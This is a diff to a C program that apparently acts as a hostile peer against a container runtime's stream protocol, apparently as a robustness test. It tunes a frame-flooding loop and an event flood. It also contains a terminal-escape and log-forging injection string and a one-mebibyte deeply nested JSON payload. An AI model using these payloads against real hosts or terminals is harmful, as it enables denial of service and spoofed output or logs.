@@ -17,7 +17,7 @@
 #include <sys/syscall.h>
 #include <unistd.h>
 
-enum { HELLO = 1, REQUEST = 2, RESPONSE = 3, EVENT = 4, DATA = 5, ACK = 7, HEADER = 17, STREAMS = 48, MEBIBYTE = 1 << 20 };
+enum { HELLO = 1, REQUEST = 2, RESPONSE = 3, EVENT = 4, DATA = 5, ACK = 7, HEADER = 17, STREAMS = 5, MEBIBYTE = 1 << 20 };
 /* What a terminal would obey, as JSON: a title, a cleared screen, C1's CSI, a turned direction, a line of its own. */
 #define WORDS "\\u001b]0;owned\\u0007\\u001b[2J\\u009b2J\\u202e\\r\\n{\\\"level\\\":60}"
 
@@ -118,10 +118,10 @@ static void hello(unsigned life) {
 
 static void flood(int type) {
   /* the host's streams of the pod's processes are among the first */
-  for (uint64_t offset = 0;; offset++) {
+  for (uint64_t offset = 0;;) {
     static const char credit[4] = {0, 1, 0, 0};
     size_t size = 0;
-    for (uint32_t round = 0; round < 64; round++)
+    for (uint32_t round = 0; round < 512; round++, offset++)
       for (uint32_t stream = 1; stream <= STREAMS; stream++)
         size += put_frame(page + size, type, stream, type == ACK ? 0 : offset, credit, type == ACK ? 4 : 1);
     say(page, size);
@@ -134,7 +134,6 @@ static void events(void) {
       "{\"event\":\"process.exited\",\"params\":{\"id\":\"" WORDS "\",\"execId\":\"\",\"status\":7,\"returned\":[]}}",
       "{\"event\":\"container.oomKilled\",\"params\":{\"id\":\"" WORDS "\"}}",
   };
-  hello(1);
   for (uint64_t number = 1;; number++) say_text(EVENT, number, texts[number % 3]);
 }
 
@@ -184,7 +183,6 @@ static void deep(void) {
   static char text[MEBIBYTE];
   const char *before = "{\"event\":\"process.exited\",\"params\":";
   size_t length = MEBIBYTE - 64, at = strlen(before);
-  hello(1);
   memset(text, '[', length);
   memcpy(text, before, at);
   memset(text + at + (length - at) / 2, ']', (length - at) / 2);
